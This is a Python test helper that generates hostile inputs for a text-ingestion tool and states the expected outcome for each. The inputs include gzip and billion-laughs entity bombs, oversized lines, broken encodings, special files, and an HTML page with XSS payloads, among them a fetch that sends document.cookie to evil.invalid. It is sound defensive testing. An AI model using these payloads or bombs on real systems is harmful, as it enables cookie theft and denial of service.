"""Write the hostile input corpus into a folder, with what communique must do with each file.

The corpus is generated, never stored: big inputs are sparse files or gzip bombs that cost
nothing on disk. Run it as a script to get the files for manual runs or fuzzing seeds:

    python tests/hostile/corpus.py /tmp/hostile && communique run /tmp/hostile --db /tmp/h.duckdb
"""

from __future__ import annotations

import codecs
import gzip
import json
import os
import random
import sys
from dataclasses import dataclass
from pathlib import Path

# A short story in our own words with two codable meetings, used as the payload of most cases.
STORY = (
    "WASHINGTON, April 26, 2024 - The American secretary of state met with the Chinese foreign "
    "minister in Beijing on Friday to discuss trade and security.\n\n"
    "The two officials agreed to keep talking. Officials said the talks were frank."
)
BIG_FILE_BYTES = 50_000_000
LONG_LINE_BYTES = 5_000_000
HUGE_LINE_MIB = 1024  # one line of 1 GiB in a 1 MB gzip file


@dataclass(frozen=True, slots=True)
class Expect:
    """What must happen to one input (a file, or ``file:line`` for a row).

    ``stored`` means the article is stored (with or without events); otherwise the input
    is rejected at ``stage`` with a reason containing every string of ``reason``.
    ``stored=None`` allows either outcome (e.g. text in another language), but a rejection
    must still give a reason.
    """

    stored: bool | None
    stage: str | None = None
    reason: tuple[str, ...] = ()
    absent: tuple[str, ...] = ()  # strings that must not be in a stored article's text


def _stored(*absent: str) -> Expect:
    return Expect(True, absent=absent)


def _rejected(stage: str, *reason: str) -> Expect:
    return Expect(False, stage, reason)


def _huge_line_gz(before: bytes, after: bytes) -> bytes:
    """``before``, a line of HUGE_LINE_MIB mebibytes of "x", ``after``: gzip members (a gzip
    file may hold many), the same mebibyte member repeated, so it is cheap to write."""
    mebibyte = gzip.compress(b"x" * (1 << 20), compresslevel=9)
    return gzip.compress(before) + mebibyte * HUGE_LINE_MIB + gzip.compress(after)


def _huge_lines(folder: Path) -> dict[str, Expect]:
    """A 1 GiB line between two good ones in each row format: skipped as it is read (it was
    read whole first, 2 to 3 GB of memory), and the next line read."""
    before, after = f"{STORY} Before a huge line.", f"{STORY} After a huge line."
    rows = {
        "huge_line.jsonl.gz": _huge_line_gz(
            json.dumps({"text": before}).encode() + b'\n{"text": "',
            b'"}\n' + json.dumps({"text": after}).encode() + b"\n",
        ),
        "huge_line.csv.gz": _huge_line_gz(
            f'text,title\n"{before} In a CSV row.",first\n"'.encode(),
            f'",huge\n"{after} In a CSV row.",third\n'.encode(),
        ),
    }
    expected: dict[str, Expect] = {}
    for name, data in rows.items():
        path = folder / name
        path.write_bytes(data)
        # a CSV file's first line is its header, and its first row holds the story's breaks
        first, huge = (2, 3 + STORY.count("\n")) if name.endswith(".csv.gz") else (1, 2)
        expected[f"{path}:{first}"] = _stored()
        expected[f"{path}:{huge}"] = _rejected("ingest", "over the limit", "skipped")
        expected[f"{path}:{huge + 1}"] = _stored()
    return expected


def _nested_html(depth: int) -> str:
    return (
        "<html><head><title>Deep</title></head><body>"
        + "<div>" * depth
        + f"<p>{STORY}</p>"
        + "</div>" * depth
        + "</body></html>"
    )


def _entity_bomb_html() -> str:
    # The "billion laughs" shape: each entity is ten of the previous one.
    entities = ['<!ENTITY lol0 "lol">']
    for level in range(1, 10):
        entities.append(f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">')
    body = f"<p>{STORY}</p>" + "<p>&lol9;&lol9;&lol9;</p>" + "&amp;" * 20_000
    return (
        f"<?xml version='1.0'?><!DOCTYPE html [{''.join(entities)}]>"
        f"<html><head><title>Bomb</title></head><body><article>{body}</article></body></html>"
    )


def _script_html() -> str:
    return (
        "<html><head><title>Scripted</title>"
        "<script>alert('pwned-head'); document.cookie</script></head><body><article>"
        f"<p>{STORY}</p>"
        "<p><a href=\"javascript:alert('pwned-link')\">Read more about the trade talks here</a>"
        "</p><script>fetch('http://evil.invalid/' + document.cookie)</script>"
        '<img src="x" onerror="alert(\'pwned-img\')">'
        "<iframe src=\"javascript:alert('pwned-frame')\"></iframe>"
        "</article></body></html>"
    )


def _broken_jsonl() -> tuple[bytes, dict[int, Expect]]:
    lines: list[bytes] = [
        json.dumps({"text": STORY, "published": "2024-04-26"}).encode(),
        b'{"text": "unterminated',
        b"[1, 2, 3]",
        json.dumps({"text": 42}).encode(),
        json.dumps({"body": STORY}).encode(),
        b'{"text": "caf\xe9 ' + json.dumps(STORY)[1:-1].encode() + b'"}',
        json.dumps({"text": None}).encode(),
        json.dumps({"text": STORY + " Again.", "published": {"year": 2024}}).encode(),
        b"",
        json.dumps({"text": ["a", "list"]}).encode(),
        b"\x00\x01\x02 binary junk \xff",
        json.dumps({"text": STORY + " Third.", "title": 7, "url": [], "source": {}}).encode(),
    ]
    expected = {
        1: _stored(),
        2: _rejected("ingest", "line 2", "not valid JSON"),
        3: _rejected("ingest", "line 3", "JSON list"),
        4: _rejected("ingest", "'text'", "int, not a string"),
        5: _rejected("ingest", "no 'text' field"),
        6: _rejected("ingest", "line 6", "not valid UTF-8"),
        7: _rejected("ingest", "'text' field is null"),
        8: _stored(),
        10: _rejected("ingest", "'text'", "list, not a string"),
        11: _rejected("ingest", "line 11"),
        12: _stored(),
    }
    return b"\n".join(lines) + b"\n", expected


def _embedded_newlines_csv() -> tuple[bytes, dict[int, Expect]]:
    multiline = STORY.replace("\n\n", "\n\n\r\n") + " Sent as CSV."
    rows: list[tuple[str, Expect | None]] = [
        ("text,published,title", None),
        (f'"{multiline}",2024-04-26,"A title\nover two lines"', _stored()),
        ('"only, two",fields', _rejected("ingest", "2 fields", "header has 3")),
        (f'"{STORY} With ""doubled"" quotes.",2024-04-27,plain', _stored()),
        # The unterminated quote swallows the rest of the file as one field: a short row.
        ('"unterminated quote,2024-04-28,x', _rejected("ingest", "1 fields")),
    ]
    expected: dict[int, Expect] = {}
    line = 1
    for row, expect in rows:
        if expect is not None:
            expected[line] = expect
        line += row.count("\n") + 1
    return "\n".join(row for row, _ in rows).encode() + b"\n", expected


def write_corpus(folder: Path) -> dict[str, Expect]:
    """Write every hostile file into ``folder``; map each origin to what must happen to it."""
    folder.mkdir(parents=True, exist_ok=True)
    expected: dict[str, Expect] = {}
    rng = random.Random(10)

    def put(name: str, data: bytes | str, expect: Expect) -> None:
        path = folder / name
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        expected[str(path)] = expect

    put("empty.txt", b"", _rejected("ingest", "empty"))
    put("whitespace_only.txt", " \n\t\r\n \u00a0\u2003\n", _rejected("ingest", "empty"))
    put("too_short.md", "---\ntitle: x\n---\nHi.", _rejected("ingest", "too short"))
    # 50 MB without writing 50 MB: a sparse file. It must be rejected before it is read.
    big = folder / "fifty_megabytes.txt"
    with big.open("wb") as handle:
        handle.truncate(BIG_FILE_BYTES)
    expected[str(big)] = _rejected("ingest", "50,000,000 bytes", "over the limit")
    # A gzip bomb: 50 MB of text in about 50 kB; only max_bytes of it may be inflated.
    put(
        "bomb.txt.gz",
        gzip.compress(b"talks " * (BIG_FILE_BYTES // 6), compresslevel=9),
        _rejected("ingest", "uncompressed text", "over the limit"),
    )
    # One 5 MB line: under max_bytes, over [nlp] max_chars, so it must never reach spaCy.
    words = " ".join(rng.choice(("minister", "met", "talks", "China")) for _ in range(10))
    line = (words + " ") * (LONG_LINE_BYTES // (len(words) + 1))
    put("one_long_line.txt", line, _rejected("nlp", "characters, over the limit"))
    put("invalid_utf8.txt", STORY.encode() + b" \xff\xfe\xc3(", _stored())
    put("latin1.txt", ("Caf\u00e9 na\u00efve: " + STORY).encode("latin-1"), _stored())
    put(
        "utf16_bom.txt",
        codecs.BOM_UTF16_LE + (STORY + " Sent as UTF-16.").encode("utf-16-le"),
        _stored(),
    )
    put(
        "utf16_be_bom.txt",
        codecs.BOM_UTF16_BE + (STORY + " Sent big-endian.").encode("utf-16-be"),
        _stored(),
    )
    put(
        "utf16_truncated.txt",
        codecs.BOM_UTF16_LE + STORY.encode("utf-16-le") + b"\x41",
        _rejected("ingest", "UTF-16"),
    )
    put(
        "mixed_encodings.txt",
        STORY.encode("utf-8") + " \u201cquoted\u201d ".encode() + "Caf\u00e9".encode("latin-1"),
        _stored(),
    )
    put(
        "zero_width_rtl.txt",
        STORY.replace(" ", " \u200b")
        + "\n\u202eThe minister \u2067\u0645\u0631\u062d\u0628\u0627\u2069 met\u202c\ufeff"
        + "\u200d\u200c\u2060 the envoy.\n",
        _stored("\u200b", "\u202e", "\u2067", "\ufeff", "\u2060"),  # removed, words whole
    )
    put("deep_nesting.html", _nested_html(10_000), Expect(None))
    put("entity_bomb.html", _entity_bomb_html(), Expect(None, absent=("lollol",)))
    put(
        "script_links.html",
        _script_html(),
        Expect(None, absent=("pwned", "javascript:", "document.cookie")),
    )
    put(
        "not_html.html",
        "<html><body><script>var a = 1;</script></body></html>",
        _rejected("ingest", "no main text"),
    )
    jsonl, rows = _broken_jsonl()
    put("broken.jsonl", jsonl, Expect(None))
    del expected[str(folder / "broken.jsonl")]
    expected.update({f"{folder / 'broken.jsonl'}:{n}": e for n, e in rows.items()})
    expected.update(_huge_lines(folder))
    csv_bytes, csv_rows = _embedded_newlines_csv()
    put("embedded_newlines.csv", csv_bytes, Expect(None))
    del expected[str(folder / "embedded_newlines.csv")]
    expected.update({f"{folder / 'embedded_newlines.csv'}:{n}": e for n, e in csv_rows.items()})
    put(
        "binary_with_nul.txt",
        bytes(rng.randrange(256) for _ in range(4096)),
        _rejected("ingest", "binary"),
    )
    put(
        "png_named.txt",
        b"\x89PNG\r\n\x1a\n" + bytes(rng.randrange(1, 32) for _ in range(2048)),
        _rejected("ingest", "not"),
    )
    put(
        "french.txt",
        "PARIS, 26 avril 2024 - Le ministre des Affaires \u00e9trang\u00e8res a rencontr\u00e9 "
        "son homologue chinois \u00e0 P\u00e9kin vendredi pour discuter du commerce.",
        _stored(),
    )
    put(
        "chinese.txt",
        "\u5916\u4ea4\u90e8\u957f\u5468\u4e94\u5728\u5317\u4eac\u4f1a\u89c1\u4e86\u7f8e\u56fd"
        "\u56fd\u52a1\u537f\uff0c\u53cc\u65b9\u8ba8\u8bba\u4e86\u8d38\u6613\u95ee\u9898\u3002",
        _stored(),
    )
    put(
        "only_quotes.txt",
        "\n".join(
            f"\u201cWe will talk again{'!' * n}\u201d \"Never.\" '{n}'" for n in range(1, 40)
        ),
        _stored(),
    )
    put(
        "only_numbers.txt",
        "\n".join(" ".join(str(rng.randrange(10**9)) for _ in range(12)) for _ in range(60)),
        _stored(),
    )
    # Just under [nlp] max_chars: one run-on sentence with a trigger every few words; and
    # 500 short sentences with an event each. Each event once cost a scan of the whole
    # document (or sentence), which made these take minutes; they must now take seconds.
    put("run_on_sentence.txt", "Blinken met Wang Yi and Xi Jinping and Putin " * 2_150, _stored())
    put("dense_events.txt", "Blinken met Wang Yi and Xi Jinping and Putin. " * 500, _stored())
    put("unsupported.exe", b"MZ\x90\x00", _rejected("ingest", "extension"))
    if os.name == "posix":
        expected.update(_write_special_files(folder))
    return expected


def _write_special_files(folder: Path) -> dict[str, Expect]:
    """Files that are not regular: a FIFO blocks its reader, /dev/zero never ends."""
    links = {"zero.txt": "/dev/zero", "loop.txt": "loop.txt", "dangling.txt": "nowhere.txt"}
    kinds = {
        "fifo.txt": "named pipe (FIFO)",
        "zero.txt": "character device",
        "loop.txt": "symbolic link loop",
        "dangling.txt": "broken symbolic link",
    }
    for name in kinds:
        (folder / name).unlink(missing_ok=True)  # the script may be rerun into its folder
    os.mkfifo(folder / "fifo.txt")
    for name, target in links.items():
        (folder / name).symlink_to(target)
    return {
        str(folder / name): _rejected("ingest", "not a regular file", kind)
        for name, kind in kinds.items()
    }


def main(argv: list[str]) -> int:
    if len(argv) != 2:
        print("usage: python tests/hostile/corpus.py FOLDER", file=sys.stderr)
        return 2
    written = write_corpus(Path(argv[1]))
    print(f"wrote {len(written)} hostile inputs to {argv[1]}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv))
